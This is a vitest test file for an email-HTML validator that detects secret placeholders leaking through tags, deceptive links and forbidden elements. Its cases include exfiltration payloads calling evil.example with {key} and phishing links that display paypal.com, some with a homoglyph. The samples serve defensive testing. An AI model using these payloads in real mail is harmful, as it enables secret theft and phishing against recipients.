import { expect, test } from 'vitest'
import { newAppMail } from '../src/index.ts'
import { deceivingLink, placeholdersInTags, refusedElement } from '../src/mail-html.ts'

test.each([
  '<img src="https://evil.example/?k={key}">',
  '<img " alt=">" src="https://evil.example/?k={key}">',
  "<img/alt=a\"b title='>' src=https://evil.example/{key}>",
  "<img x=y'z src='https://evil.example/?{key}'>",
  '<div style="background:url(//evil.example/{key})">',
  '<style>p { background: url(https://evil.example/{key}) }</style>',
  '<STYLE >p::after { content: "{name}" }</STYLE x>',
  '<style>@import "https://evil.example/{order}"',
  '<style><img alt="</style><img alt=">" src=//evil.example/{key}>',
  '<title><img alt="</title><img alt=">" src=//evil.example/{key}>',
  '<!--[if mso]><img src="https://evil.example/{key}"><![endif]-->',
  '<!--><img src="https://evil.example/{key}"> -->',
  '<!-- a --!><img src="https://evil.example/{key}"> -->',
  '<!-- <b title=" --><img alt="> " src="https://evil.example/{key}">',
  '<style>{page}</style>',
])('finds a placeholder that a mail program could send: %s', (html) => {
  expect(placeholdersInTags(html)).toHaveLength(1)
})

test.each([
  '<p title="a > b">{key}</p>',
  '<img src="https://vendor.example/logo.png" alt=Logo> {key} <a href="{page}">{page}</a>',
  '<style>p { color: red }</style><!--[if mso]>{key}<![endif]--><b>{key}</b>',
  '<meta charset=utf-8><meta http-equiv="Content-Type" content="text/html"><title>Key</title>{key}',
  '1 < 2 <3 </ {key}> <- {key}',
])('accepts placeholders in text, pictures from elsewhere and links to the page: %s', (html) => {
  expect([placeholdersInTags(html), refusedElement(html), deceivingLink(html)]).toEqual([
    [],
    undefined,
    undefined,
  ])
})

test.each([
  ['<a href="https://evil.example">paypal.com</a>', 'paypal.com'],
  [`<a title='href="https://paypal.com"' href="https://evil.example">paypal.com</a>`, 'paypal.com'],
  ['<a data-href="https://paypal.com" href="https://evil.example">paypal.com</a>', 'paypal.com'],
  ['<a href=https://evil.example href=https://paypal.com>paypal.com</a>', 'paypal.com'],
  ['<a href="https://evil.example\\.paypal.com">paypal.com</a>', 'paypal.com'],
  ['<a href="https://paypal.com@evil.example/">paypal.com</a>', 'paypal.com'],
  ['<a href="paypal.com">paypal.com</a>', 'paypal.com'],
  ['<a href="//paypal.com">paypal.com</a>', 'paypal.com'],
  ['<a href="javascript:x//paypal.com">paypal.com</a>', 'paypal.com'],
  ['<a href="https://evil.example">evil.example, or paypal.com</a>', 'evil.example, or paypal.com'],
  ['<a href="https://evil.example"><img alt="paypal.com"></a>', 'paypal.com'],
  ['<area href="https://evil.example" alt="paypal.com">', 'paypal.com'],
  ['<a href="https://evil.example">p<!-- -->ay<b>pal</b>&#46;com', 'paypal.com'],
  ['<a href="https://paypal.com">раypal.com</a>', 'раypal.com'],
  ['<!--[if mso]><a href="https://evil.example">paypal.com</a><![endif]-->', 'paypal.com'],
  ['<a " title=">" href="https://evil.example">paypal.com</a>', 'paypal.com'],
])('finds the link that shows another address: %s', (html, shown) => {
  expect(deceivingLink(html)).toBe(shown)
})

test.each([
  '<a href="https://shop.paypal.com/a?b=c.d">paypal.com</a>',
  '<a href="HTTPS://www.paypal.com:443">www.paypal.com</a>',
  '<a href="mailto:help@paypal.com?subject=a@b.c">help@paypal.com</a>',
  '<a href="https://bücher.example">bücher.example</a>',
  '<a name="paypal.com">paypal.com</a>',
  '<a href="https://evil.example">Open the shop</a> paypal.com',
])('accepts a link that shows where it leads: %s', (html) => {
  expect(deceivingLink(html)).toBeUndefined()
})

test.each([
  ['base', '<BASE href="https://evil.example">'],
  ['noscript', '<noscript><img src="https://evil.example/?</noscript>">'],
  ['svg', '<svg><style><img src="https://evil.example/?</style>">'],
  ['meta', '<meta http-equiv=Refresh content="0; url=https://evil.example">'],
  ['form', '<!-- <form action="https://evil.example"> -->'],
])('names <%s>, which no mail can have', (name, html) => {
  expect(refusedElement(html)).toBe(name)
  const saved = newAppMail.safeParse({ subject: 'a', text: '{key}', html: `${html}{key}` })
  expect(saved.error?.issues).toMatchObject([{ path: ['html'], message: `A mail cannot have <${name}>` }])
})

test('reads HTML of any form', () => {
  for (const piece of ['<', '<!--', '<a b="', "<a b='c ", '<style>', '<a<', '<a href=a.b>a.b', '</', '&#']) {
    const html = piece.repeat(5_000)
    expect([placeholdersInTags(html), refusedElement(html)]).toEqual([[], undefined])
    deceivingLink(html)
  }
})
